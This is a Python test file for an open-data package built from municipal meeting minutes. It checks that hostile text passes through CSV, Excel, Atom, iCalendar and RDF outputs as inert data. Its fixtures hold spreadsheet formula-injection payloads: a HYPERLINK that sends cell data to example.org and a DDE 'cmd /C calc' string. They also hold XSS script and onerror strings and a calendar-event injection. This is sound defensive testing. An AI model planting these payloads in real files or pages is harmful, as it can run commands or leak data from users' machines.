"""Hostile minutes, MADE UP: what they hold comes out of every file of a package as plain text."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import duckdb
import feedparser
import icalendar
import openpyxl
import pyoxigraph as ox
import pytest
from lxml import etree
from test_package import ROOT

from socsam_opendata.package.build import build
from socsam_opendata.package.sheets.excel_csv import export_excel_csv

SEED = ROOT / "minutes"
LONG = "ö" * 40_000
CONTROL = "\x07klocka\x1b[31m"
CLAUSES = {
    "formula": '=HYPERLINK("http://example.org/?x="&A1;"klicka")',
    "at": "@SUM(1+1)|cmd|' /C calc'!A0",
    "markup": "<script>alert('x')</script> ]]> &amp; <b>fet</b> <!-- -->",
    "quotes": "\"citat\", 'enkla'; semikolon, \\N och \\n",
    "control": f"ring {CONTROL} nu",
    "long": LONG,
}
TITLE = '=1+1 <img src=x onerror=alert(1)> "ny"; modell\\, BEGIN:VEVENT'


@pytest.fixture(scope="module")
def package(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The seed with another title of § 18 and hostile clauses in it, built."""
    home = tmp_path_factory.mktemp("hostile")
    minutes = home / "minutes"
    minutes.mkdir()
    for path in SEED.iterdir():
        if path.is_file():
            (minutes / path.name).write_bytes(path.read_bytes())
    document = minutes / "2025-06-02-socsam.md"
    text = document.read_text(encoding="utf-8")
    text = text.replace("§ 18 Översyn av modell för fördelning av kostnader", f"§ 18 {TITLE}")
    start = text.index("Att rekommendera Kommunförbundet Jämtland Härjedalens styrelse att uppdra")
    end = text.index("\n", start)
    points = [f"{n}. {clause}" for n, clause in enumerate(CLAUSES.values(), 1)]
    document.write_text(
        text[:start] + "\n\n".join(points) + text[end:], encoding="utf-8", newline="\n"
    )
    report = build(minutes, home / "package")
    assert report.built, report.problems
    return home / "package"


def clauses(package: Path) -> list[str]:
    """The hostile texts as Parquet has them."""
    rows = duckdb.sql(
        f"SELECT text FROM '{package}/data/decision_overview.parquet' "
        "WHERE paragraph = '§ 18' ORDER BY id"
    ).fetchall()
    return [row[0] for row in rows]


def test_the_texts_are_data_word_for_word_but_for_what_no_table_can_hold(package: Path) -> None:
    found = clauses(package)
    assert found[0] == CLAUSES["formula"]
    assert found[1] == CLAUSES["at"]
    assert found[2] == CLAUSES["markup"]
    assert found[3] == CLAUSES["quotes"]
    assert "klocka" in found[4]
    assert not any(ord(c) < 32 for c in found[4])
    assert found[5] == LONG
    with (package / "data/decision_overview.csv").open(encoding="utf-8", newline="") as file:
        rows = [row["text"] for row in csv.DictReader(file) if row["paragraph"] == "§ 18"]
    assert rows == found
    titles = duckdb.sql(f"SELECT title FROM '{package}/data/agenda_items.csv'").fetchall()
    assert (TITLE,) in titles


def test_the_workbook_runs_nothing(package: Path) -> None:
    with zipfile.ZipFile(package / "socsam.xlsx") as packed:
        sheets = [n for n in packed.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets
        for name in sheets:
            sheet = etree.fromstring(packed.read(name))
            assert sheet.findall(".//{*}f") == []
            assert sheet.findall(".//{*}hyperlink") == []
    book = openpyxl.load_workbook(package / "socsam.xlsx")
    cells = [c for row in book["Beslut"].iter_rows() for c in row if isinstance(c.value, str)]
    formula = next(cell for cell in cells if cell.value == CLAUSES["formula"])
    assert (formula.data_type, formula.quotePrefix) == ("s", True)
    long = next(cell.value for cell in cells if cell.value.startswith("öööö"))
    assert len(long) <= 32_767


def test_csv_for_excel_runs_nothing(package: Path, tmp_path: Path) -> None:
    export_excel_csv(package, tmp_path / "excel", ["decision_overview"])
    text = (tmp_path / "excel/decision_overview-excel.csv").read_text(encoding="utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    assert f"'{CLAUSES['formula']}" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_feeds_are_well_formed_and_hold_text(package: Path) -> None:
    path = package / "feeds/socsam-decisions.atom"
    tree = etree.fromstring(path.read_bytes())
    assert not tree.findall(".//{*}script")
    assert {e.get("type", "text") for e in tree.iter("{*}title", "{*}summary")} == {"text"}
    found = feedparser.parse(path.read_bytes())
    assert not found.bozo
    assert any(CLAUSES["markup"] in "".join(e.itertext()) for e in tree.iter("{*}entry"))


def test_calendars_have_the_events_of_the_meetings_only(package: Path) -> None:
    data = (package / "feeds/socsam.ics").read_bytes()
    assert all(len(line) <= 75 for line in data.split(b"\r\n"))
    calendar = icalendar.Calendar.from_ical(data)
    events = calendar.walk("VEVENT")
    assert data.count(b"\r\nBEGIN:VEVENT\r\n") == len(events)
    assert len({event["UID"] for event in events}) == len(events)


def test_the_catalogue_and_the_graph_can_be_read(package: Path) -> None:
    for name, form in (
        ("catalogue.rdf", ox.RdfFormat.RDF_XML),
        ("catalogue.ttl", ox.RdfFormat.TURTLE),
        ("catalogue.jsonld", ox.RdfFormat.JSON_LD),
        ("rdf/socsam.nq", ox.RdfFormat.N_QUADS),
    ):
        assert list(ox.parse(path=str(package / name), format=form))
    literals = {
        quad.object.value
        for quad in ox.parse(path=str(package / "rdf/socsam.nq"), format=ox.RdfFormat.N_QUADS)
        if isinstance(quad.object, ox.Literal)
    }
    assert {TITLE, CLAUSES["markup"], LONG} <= literals
